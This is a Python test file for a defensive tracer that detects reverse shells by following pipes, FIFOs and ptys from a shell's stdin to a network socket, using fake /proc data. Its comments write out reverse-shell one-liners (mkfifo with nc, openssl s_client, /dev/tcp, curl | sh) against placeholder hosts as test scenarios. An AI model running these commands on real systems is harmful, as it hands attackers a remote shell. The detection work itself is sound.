"""The pipe graph of tracer.state.pipes on fake /proc answers: which stdin-reading shells are driven by the
network through pipes and FIFOs, and which are only fed by it (curl | sh)."""
from tracer.detect.argv import reads_commands_from_stdin
from tracer.events import Endpoint, Episode, NetworkEvent, PipedShell, Process, ProcessEvent
from tracer.state.pipes import RESCAN_INTERVAL_NS, SCAN_INTERVAL_NS, Connection, PipeShells, wiring

PEER = Endpoint("198.51.100.1", 4444)
LOCAL = Endpoint("198.51.100.2", 40000)


def conn(pid, inode="900", remote=PEER):
    return Connection(pid, inode, "tcp", LOCAL, remote)


# cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f   (cat 10, sh 11, nc 12)
FIFO_NC = {
    10: [(0, "other", "", "rw"), (1, "pipe", "1", "w"), (2, "tty", "", "rw"), (3, "fifo", "8:77", "r")],
    11: [(0, "pipe", "1", "r"), (1, "pipe", "2", "w"), (2, "pipe", "2", "w")],
    12: [(0, "pipe", "2", "r"), (1, "fifo", "8:77", "w"), (2, "tty", "", "rw"), (3, "socket", "900", "rw")],
}


def test_fifo_and_nc_shell_is_wired_both_ways():
    found = wiring(11, FIFO_NC, {12: [conn(12)]}, names={10: "cat", 11: "sh", 12: "nc"}.get)
    assert found is not None
    connection, feed, back = found
    assert connection.pid == 12 and connection.remote == PEER
    assert feed == "pipe:[1] <- cat (pid 10) <- fifo:[8:77] <- nc (pid 12)"
    assert back == "pipe:[2] -> nc (pid 12)"


def test_sh_reading_the_fifo_itself_with_openssl():
    # sh -i < /tmp/f 2>&1 | openssl s_client -connect HOST:PORT > /tmp/f   (sh 11, openssl 12)
    files = {11: [(0, "fifo", "8:77", "r"), (1, "pipe", "2", "w"), (2, "pipe", "2", "w")],
             12: [(0, "pipe", "2", "r"), (1, "fifo", "8:77", "w"), (3, "socket", "900", "rw")]}
    connection, feed, back = wiring(11, files, {12: [conn(12)]})
    assert connection.pid == 12 and feed.startswith("fifo:[8:77] <- ") and back.startswith("pipe:[2] -> ")


def test_curl_pipe_sh_is_fed_but_does_not_answer():
    # curl URL | sh | cat   (curl 20, sh 21, cat 22); the script's own curl (23) writes into sh's stdout pipe
    files = {20: [(1, "pipe", "5", "w"), (3, "socket", "901", "rw")],
             21: [(0, "pipe", "5", "r"), (1, "pipe", "6", "w"), (2, "tty", "", "rw")],
             22: [(0, "pipe", "6", "r"), (1, "other", "", "rw")],
             23: [(0, "pipe", "5", "r"), (1, "pipe", "6", "w"), (3, "socket", "902", "rw")]}
    assert wiring(21, files, {20: [conn(20, "901")], 23: [conn(23, "902")]}) is None


def test_output_to_another_network_process_is_not_back():
    # an agent that reads the output of `curl | sh` and holds its own connection (another socket, another
    # process): the shell's output does not go back to what feeds it
    files = {20: [(1, "pipe", "5", "w"), (3, "socket", "901", "rw")],
             21: [(0, "pipe", "5", "r"), (1, "pipe", "6", "w")],
             30: [(4, "pipe", "6", "r"), (5, "socket", "903", "rw")]}
    assert wiring(21, files, {20: [conn(20, "901")], 30: [conn(30, "903")]}) is None


def test_one_socket_shared_by_two_helpers_counts():
    # exec 3<>/dev/tcp/H/P; cat <&3 | sh | cat >&3: two cats, one socket
    files = {40: [(0, "socket", "904", "rw"), (1, "pipe", "7", "w")],
             41: [(0, "pipe", "7", "r"), (1, "pipe", "8", "w")],
             42: [(0, "pipe", "8", "r"), (1, "socket", "904", "rw")]}
    found = wiring(41, files, {40: [conn(40, "904")], 42: [conn(42, "904")]})
    assert found is not None and found[0].inode == "904"


def test_a_shell_on_a_terminal_or_a_file_is_left_alone():
    for stdin in [(0, "tty", "", "rw"), (0, "other", "", "rw")]:
        files = dict(FIFO_NC)
        files[11] = [stdin, (1, "pipe", "2", "w")]
        assert wiring(11, files, {12: [conn(12)]}) is None


def chain(cats: int) -> dict:
    """nc (200) | cat | ... | cat | sh (100) | nc: sh's stdin fed through a chain of cats."""
    files = {100: [(0, "pipe", "p0", "r"), (1, "pipe", "out", "w")],
             200: [(0, "pipe", "out", "r"), (1, "pipe", f"p{cats}", "w"), (3, "socket", "905", "rw")]}
    for i in range(cats):
        files[101 + i] = [(0, "pipe", f"p{i + 1}", "r"), (1, "pipe", f"p{i}", "w")]
    return files


def test_a_chain_is_followed_within_bounds():
    assert wiring(100, chain(3), {200: [conn(200, "905")]}) is not None
    assert wiring(100, chain(10), {200: [conn(200, "905")]}) is None     # beyond MAX_HOPS


def test_which_command_lines_read_commands_from_stdin():
    assert reads_commands_from_stdin(["/bin/sh", "-i"])
    assert reads_commands_from_stdin(["sh"])
    assert reads_commands_from_stdin(["bash", "-s", "arg"])
    assert reads_commands_from_stdin(["python3", "-"])
    assert reads_commands_from_stdin(["busybox", "sh"])
    assert not reads_commands_from_stdin(["sh", "-c", "echo hi"])
    assert not reads_commands_from_stdin(["bash", "-ic", "echo hi"])
    assert not reads_commands_from_stdin(["bash", "install.sh"])
    assert not reads_commands_from_stdin(["python3", "-u", "-m", "http.server"])
    assert not reads_commands_from_stdin(["perl", "-e", "print 1"])
    assert not reads_commands_from_stdin(["nc", "198.51.100.1", "4444"])
    assert not reads_commands_from_stdin(["awk", "{print}"])


class FakeProc:
    """/proc answers for PipeShells, and a count of the fd tables read."""

    def __init__(self, files, sockets):
        self.files, self.sockets, self.reads = files, sockets, 0

    def open_files(self, pid):
        self.reads += 1
        return self.files.get(pid)

    def inet_sockets(self, pid, inodes):
        return {i: v for i, v in self.sockets.get(pid, {}).items() if i in inodes}

    def episode_pids(self, cgroup_path):
        return sorted(self.files)

    def wall_ns(self):
        return 0

    def process_info(self, pid):
        return Process(pid, name={10: "cat", 11: "sh", 12: "nc"}.get(pid, "?"))


EPISODE = Episode("ep1", "/eptrace/ep1", 7)


def started(pid, args, ts):
    return ProcessEvent("process_started", ts, EPISODE, 7, "/eptrace/ep1", Process(pid, args[0], args[0], args))


def connected(pid, ts, ip="198.51.100.1"):
    return NetworkEvent("connection_established", ts, EPISODE, 7, "/eptrace/ep1", Process(pid, "nc"), 1, "ipv4",
                        "tcp", "egress", LOCAL, Endpoint(ip, 4444), "success")


def test_the_watcher_reports_once_rate_limits_and_flushes():
    proc = FakeProc({11: FIFO_NC[11]}, {})      # at the shell's start, nc has not connected yet
    seen: list[PipedShell] = []
    shells = PipeShells(proc, seen.append)
    shells.on_event(started(11, ["/bin/sh", "-i"], 1_000))
    assert seen == []
    proc.files = dict(FIFO_NC)
    proc.sockets = {12: {"900": ("tcp", LOCAL, PEER, "established")}}
    shells.on_event(connected(12, 1_000 + SCAN_INTERVAL_NS // 2))   # too soon after the last scan: put off
    assert seen == []
    shells.flush(2_000 + SCAN_INTERVAL_NS)
    assert len(seen) == 1 and seen[0].process.pid == 11 and seen[0].holder_pid == 12
    assert seen[0].holder_name == "nc" and seen[0].destination == PEER
    shells.on_event(connected(12, 10 * SCAN_INTERVAL_NS))
    assert len(seen) == 1                        # one finding per shell


def test_the_watcher_ignores_episodes_without_shells_and_local_connections():
    proc = FakeProc(dict(FIFO_NC), {12: {"900": ("tcp", LOCAL, PEER, "established")}})
    seen: list[PipedShell] = []
    shells = PipeShells(proc, seen.append)
    shells.on_event(connected(12, 1))           # no candidate shell in the episode: no /proc read
    assert proc.reads == 0
    shells.on_event(started(11, ["sh", "-c", "id"], 2))
    assert proc.reads == 0 and seen == []
    proc.files[11] = [(0, "tty", "", "rw")]
    shells.on_event(started(11, ["sh", "-i"], 3))
    assert proc.reads == 1                      # the shell only: its stdin is a terminal
    shells.on_event(connected(12, 3 * SCAN_INTERVAL_NS, ip="127.0.0.1"))
    assert proc.reads == 1


def test_a_pty_wrapper_is_one_hop():
    # cat F | script -qc 'sh -i' | nc H P > F   (cat 10, script 13 holds the pty master, sh 11 on /dev/pts/3)
    files = {10: FIFO_NC[10],
             13: [(0, "pipe", "1", "r"), (1, "pipe", "2", "w"), (3, "pty", "3", "rw")],
             11: [(0, "pty", "3", "rw"), (1, "pty", "3", "rw"), (2, "pty", "3", "rw")],
             12: FIFO_NC[12]}
    connection, feed, back = wiring(11, files, {12: [conn(12)]}, names={10: "cat", 13: "script", 12: "nc"}.get)
    assert connection.pid == 12
    assert feed.startswith("pty:[3] <- script (pid 13) <- pipe:[1] <- cat (pid 10)"), feed
    assert back == "pty:[3] -> script (pid 13) -> pipe:[2] -> nc (pid 12)", back


def test_a_terminal_whose_master_is_outside_the_episode_is_left_alone():
    # an interactive shell on /dev/pts/3 (sshd or a terminal holds the master, outside the episode)
    files = {11: [(0, "pty", "3", "rw"), (1, "pty", "3", "rw")], 12: FIFO_NC[12]}
    assert wiring(11, files, {12: [conn(12)]}) is None


def test_a_shell_rewired_without_any_trigger_is_found_by_the_rescan():
    proc = FakeProc({11: [(0, "pipe", "1", "r"), (1, "pipe", "2", "w")]}, {})   # fed by nothing yet
    seen: list[PipedShell] = []
    shells = PipeShells(proc, seen.append)
    shells.on_event(started(11, ["sh"], 0))
    proc.files, proc.sockets = dict(FIFO_NC), {12: {"900": ("tcp", LOCAL, PEER, "established")}}
    shells.flush(RESCAN_INTERVAL_NS // 2)
    assert seen == []                           # no trigger, not due yet
    shells.flush(RESCAN_INTERVAL_NS)
    assert len(seen) == 1
